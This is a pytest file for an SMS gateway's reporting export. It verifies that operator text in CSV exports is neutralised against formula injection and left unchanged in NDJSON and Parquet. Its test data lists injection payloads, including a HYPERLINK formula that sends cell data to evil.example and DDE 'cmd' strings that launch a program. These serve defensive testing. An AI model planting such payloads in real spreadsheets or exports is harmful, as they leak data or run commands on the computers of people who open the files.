"""What operators say cannot become a formula in a CSV file; NDJSON and Parquet keep it as it came."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from uuid import UUID

import msgspec
import pyarrow.parquet as pq
import pytest
from django.test import Client, override_settings
from hypothesis import given
from hypothesis import strategies as st

from smsgateway import ids, spreadsheets
from smsgateway.clickhouse import ClickHouse
from tests.support.events import accepted, message_id, status, write

START = dt.datetime(2026, 3, 5, 8, 30, tzinfo=dt.UTC)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+989121234567",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tabc",
    "\rabc",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    'x",=1+1',
    "x;=1+1",
    'x";=1+1',
    "x\t@SUM(1)",
    "x\n=1+1",
    "x, -1",
    "'=1+1",
    "=",
)
HARMLESS = ("7f3a9c", "a-b", "a=b", "a+b", "a@b.example", "0912", "12.5", "سلام", "", "'", "'x", "a, b", 'a "b"', "a;b")
FORMULA = re.compile("[=+\\-@\uff1d\uff0b\uff0d\uff20\t\r\n]")


@pytest.fixture
def client(database: ClickHouse) -> Iterator[Client]:
    with override_settings(ROOT_URLCONF="smsgateway.urls.reporting"):
        yield Client()


def exported(client: Client, customer: UUID, form: str) -> bytes:
    asked = {"customer_id": ids.to_text(customer), "from": "2026-03-05", "to": "2026-03-06", "format": form}
    response: Any = client.get("/v1/export", asked)
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


@pytest.fixture
def texts(database: ClickHouse, customer: UUID) -> list[str]:
    """Ids and errors of an operator, one for each message."""
    made = []
    for number, text in enumerate([*FORMULAS, *HARMLESS]):
        message = message_id(START + dt.timedelta(minutes=number))
        said = {"operator_message_id": text, "error": text, "operator": text[:20]}
        made += [accepted(customer, message), msgspec.structs.replace(status(customer, message, "submitted"), **said)]
    write(database, *made)
    return [*FORMULAS, *HARMLESS]


def test_no_cell_of_a_csv_export_begins_a_formula(client: Client, customer: UUID, texts: list[str]) -> None:
    body = exported(client, customer, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert len(rows) == len(texts)
    for row, text in zip(rows, texts, strict=True):
        for name, value in row.items():
            assert not FORMULA.match(value.lstrip(" \u00a0")), (name, text)
        assert row["operator_message_id"] == row["error"] == spreadsheets.cell(text)
        if text in HARMLESS:
            assert row["operator_message_id"] == text


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_begins_a_formula_with_another_separator_either(
    client: Client, customer: UUID, texts: list[str], separator: str
) -> None:
    for line in csv.reader(io.StringIO(exported(client, customer, "csv").decode(), newline=""), delimiter=separator):
        for value in line:
            assert not FORMULA.match(value.lstrip(" \u00a0")), line
            for cell in re.split(f"[{re.escape(separator)}]", value):
                assert not FORMULA.match(cell.lstrip(' \u00a0"')), line


def test_the_other_formats_keep_texts_unchanged(client: Client, customer: UUID, texts: list[str]) -> None:
    lines = [json.loads(line) for line in exported(client, customer, "ndjson").splitlines()]
    table = pq.read_table(io.BytesIO(exported(client, customer, "parquet"))).to_pylist()
    for rows in (lines, table):
        assert [row["operator_message_id"] for row in rows] == texts
        assert [row["error"] for row in rows] == texts


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_clickhouse_and_python_write_the_same_cell(database: ClickHouse, text: str) -> None:
    [(found,)] = database.query(f"SELECT {spreadsheets.cell_sql('%(text)s')}", {"text": text})
    assert found == spreadsheets.cell(text)
    assert (found == text) == (text in HARMLESS)


@given(st.text(alphabet="=+-@\t\r\n'\", ;ax1\uff1d"))
def test_without_its_apostrophe_a_cell_is_what_it_was(text: str) -> None:
    found = spreadsheets.cell(text)
    assert not FORMULA.match(found.lstrip(" \u00a0"))
    if not re.search(r'[\t\r\n,;|"]', text):
        assert text == (found.removeprefix("'") if re.match("'+ *[=+\\-@\uff1d]", found) else found)


def test_nothing_else_writes_csv_with_texts_of_others() -> None:
    """The file of rates has digits, amounts, currencies and our ids alone."""
    root = Path(__file__).parents[2]
    pattern = re.compile(r"csv\.writer|DictWriter|text/csv|FORMAT CSV|formatRow")
    sources = [path for folder in ("apps", "smsgateway") for path in (root / folder).rglob("*.py")]
    found = {str(path.relative_to(root)) for path in sources if pattern.search(path.read_text(encoding="utf-8"))}
    rates = {"apps/sms/pricing/csv_import.py", "apps/console/pages/rates.py"}
    archive = {"smsgateway/partitions/parquet.py", "smsgateway/partitions/restore.py"}  # read by machines alone
    assert found - rates - archive == {"apps/reporting/export/formats.py"}
